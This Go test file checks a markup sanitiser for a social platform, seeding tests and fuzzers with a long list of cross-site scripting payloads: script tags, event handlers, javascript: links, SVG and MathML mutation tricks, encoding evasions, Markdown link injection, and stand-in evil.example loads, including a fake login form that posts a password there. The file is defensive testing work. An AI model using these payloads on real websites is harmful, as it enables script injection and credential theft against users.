package markup

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// attacks are ways to run script, to load something, or to break out of the
// place where a text is shown.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://x.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/x>alert(1)</script>`, `<script>alert(1)//`, `<<script>alert(1);//<</script>`, `<script
>alert(1)</script
>`, `<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<IMG """><SCRIPT>alert(1)</SCRIPT>">`, `<img src="javascript:alert(1)">`, `<img alt="<script>alert(1)</script>">`,
	`<img alt='"><img src=x onerror=alert(1)>'>`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)//`, `<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>`,
	`<math href="javascript:alert(1)">x</math>`, `<math><annotation-xml encoding="text/html"><svg onload=alert(1)></annotation-xml></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
	`<title><img title="</title><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><svg/onload=alert(1)>">`,
	`<noembed><img src="</noembed><img src=x onerror=alert(1)>">`, `<iframe><img title="</iframe><img src=x onerror=alert(1)>">`,
	`<plaintext><img src=x onerror=alert(1)>`, `<template><script>alert(1)</script></template>`, `<select><style></select><img src=x onerror=alert(1)></style>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="&#106;&#97;vascript:alert(1)">x</a>`,
	`<a href="java&NewLine;script&colon;alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="feed:javascript:alert(1)">x</a>`, `<a href="https://x.example/" onclick="alert(1)">x</a>`, `<a href='https://x.example/"onmouseover="alert(1)'>x</a>`,
	"<a href=`https://x.example/`onclick=alert(1)>x</a>", `<a href="https://x.example/&quot; onclick=alert(1)">x</a>`, `<a href=https://x.example/ onclick=alert(1)//>x`,
	`<a/href="https://x.example/"/onclick="alert(1)">x</a>`, `<a href="https://x.example/" href="javascript:alert(1)">x</a>`, `<a href="javascript:alert(1)" href="https://x.example/">x</a>`,
	`<a href="https://x.example/" title='"><script>alert(1)</script>'>x</a>`, `<a href="https://x.example/" class='mention"onclick="alert(1)'>x</a>`,
	`<a href="https://x.example/" rel='tag"onclick="alert(1)'>x</a>`, `<a href="https://x.example/" ping="https://evil.example/" download target=_top>x</a>`,
	`<p style="background:url(javascript:alert(1))">x</p>`, `<p style="position:fixed;inset:0">x</p>`, `<p class="modal admin">x</p>`, `<p id="csrf" name="csrf">x</p>`,
	`<p lang='en"onclick="alert(1)'>x</p>`, `<div style="width:expression(alert(1))">x</div>`, `<style>*{display:none}</style>`, `<style>@import "https://evil.example/x.css";</style>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`, `<embed src="javascript:alert(1)">`, `<applet code=x></applet>`, `<video src=x onerror=alert(1)></video>`,
	`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<body onload=alert(1)>`, `<html onmouseover=alert(1)>`, `<frameset onload=alert(1)>`,
	`<form action="https://evil.example/"><input name=password><button>Log in</button></form>`, `<input autofocus onfocus=alert(1)>`, `<button formaction=javascript:alert(1)>x</button>`,
	`<isindex action=javascript:alert(1) type=image>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`,
	`<table background="javascript:alert(1)"><td background="javascript:alert(1)">`, `<bgsound src="javascript:alert(1)">`, `<portal src=https://evil.example/>`, `<x onclick=alert(1)>x</x>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<!--><img src=x onerror=alert(1)>-->`, `<!--- ><img src=x onerror=alert(1)>`, `<! foo="><script>alert(1)</script>">`,
	`<? foo="><script>alert(1)</script>">`, `</ foo="><script>alert(1)</script>">`, `<% foo="%><script>alert(1)</script>">`, `<![CDATA[<script>alert(1)</script>]]>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>", "<img\x0bsrc=x\x0conerror=alert(1)>", "\xc0\xbcscript\xc0\xbealert(1)", "<p\xff onclick=alert(1)>x", "＜script＞alert(1)＜/script＞",
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)`, `&ltscript&gtalert(1)`, `</div></main></body></html><script>alert(1)</script>`, `"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`, `]]><script>alert(1)</script>`, `--><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
	`{{constructor.constructor('alert(1)')()}}`, "${alert(1)}", "`-alert(1)-`", `<b onmouseover=alert(1)//>x`, `<p/onclick=alert(1)>x`, `<p onclick	=	alert(1)>x`,
	`<span class="invisible">https://</span>`, "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](java&#115;cript:alert(1))", "[x](\x01javascript:alert(1))",
	"![x](javascript:alert(1))", `![x"onerror="alert(1)](https://x.example/)`, `[x](https://x.example/"onclick="alert(1))`, `[x](https://x.example/ "t\" onclick=alert(1)")`,
	"<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]", "[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>", "```\"><script>alert(1)</script>\nx\n```",
	"# x {onclick=alert(1)}", "https://x.example/\"onclick=\"alert(1)", "https://x.example/<script>alert(1)</script>", "@<script>@b.example", "#<script>alert(1)</script>",
	`[<img src=x onerror=alert(1)>](https://x.example/)`, "[^<script>]\n\n[^<script>]: alert(1)", "<a@b.example onclick=alert(1)>", "    <script>alert(1)</script>",
}

// No attack leaves anything but inert text, however it comes in.
func TestT34_AttacksAreInert(t *testing.T) {
	for i, attack := range attacks {
		for _, s := range []string{attack, "<p>" + attack + "</p>", `<a href="https://x.example/">` + attack, "<pre>" + attack, attack + attacks[(i+7)%len(attacks)]} {
			clean(t, s)
			inert(t, s, CleanHTML(s))
		}
		hostile := Links{
			Mention: func(user, host string) (Target, bool) {
				return Target{Href: `javascript:alert(1)"onclick="`, URL: `https://x.example/"onclick="alert(1)`, User: attack, Host: attack}, true
			},
			Hashtag: func(tag string) string { return `https://x.example/"onclick="` + tag },
		}
		for _, render := range []func(string, Links) (Rendered, error){Markdown, Plain} {
			for _, s := range []string{attack, "@bob@b.example #tag " + attack, "> " + attack, "- " + attack, "**" + attack + "**"} {
				r, err := render(s, hostile)
				if err != nil {
					t.Fatal(err)
				}
				onlyAllowed(t, r.HTML)
				inert(t, s, r.HTML)
			}
		}
		onlyAllowed(t, Field(attack))
		inert(t, attack, Field(attack))
	}
}

// inert looks for what no output may hold, even should a parser read it otherwise.
func inert(t *testing.T, in, out string) {
	t.Helper()
	lower := strings.ToLower(out)
	for _, bad := range []string{"<script", "<img", "<svg", "<math", "<style", "<iframe", "<form", "<input", "<object", "<link", "<meta", "<base", "<!--", "<?"} {
		if strings.Contains(lower, bad) {
			t.Errorf("%q left in %q, from %q", bad, out, in)
		}
	}
	if !utf8.ValidString(out) || strings.ContainsRune(out, 0) {
		t.Errorf("invalid text %q", out)
	}
}

func FuzzCleanHTML(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	for _, s := range []string{
		post, "<p>a<ul><li>b<ol start=3><li value=2>c</ul>d", "<ruby>漢<rp>(<rt>kan<rp>)</ruby>", "<div>a</div><div>b<table><tr><td>c<td>d",
		`<a href="https://x.example/"><p><span class=invisible>https://</span>good.org<b>x</a>y`, "<h1>a<h2>b<p>c<pre>\nd", "a<br><br>b\r\nc", "<b><i>a</b>b</i>", `<a href=hTtps://x.example/">`,
		"<a href=http://x.example title='\f'>x", "<svg><object><select>a</frame></object><p>b",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		clean(t, s)
		Text(s)
		Inline(s)
		Excerpt(s, 20)
	})
}

func FuzzMarkdown(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	for _, s := range []string{
		"@bob@b.example *#Cat* https://x.example/ö_b_ `x` [a](https://x.example/)", "1. a\n   > b\n\n- c\n\n```\nd\n```\n", "a[^1]\n\n[^1]: b\n", "a\\\nb  \nc", "Setext\n===\n---\n",
		"[https://x.example @a@b.example](https://y.example 't')", "&amp; \\& &#35; &#x23;a", "httPs://x.",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, render := range []func(string, Links) (Rendered, error){Markdown, Plain} {
			r, err := render(s, links)
			if err != nil {
				return
			}
			onlyAllowed(t, r.HTML)
			if len(r.Mentions) > MaxMentions {
				t.Fatalf("%d mentions", len(r.Mentions))
			}
			// What we send, others clean as we do: no element may be lost.
			if got, want := Text(CleanHTML(r.HTML)), Text(r.HTML); strings.Join(strings.Fields(got), "") != strings.Join(strings.Fields(want), "") && !strings.Contains(r.HTML, "<a ") {
				t.Fatalf("%q is %q when cleaned: %q", s, want, got)
			}
		}
		if n := CountCharacters(s); n < 0 {
			t.Fatal(n)
		}
	})
}
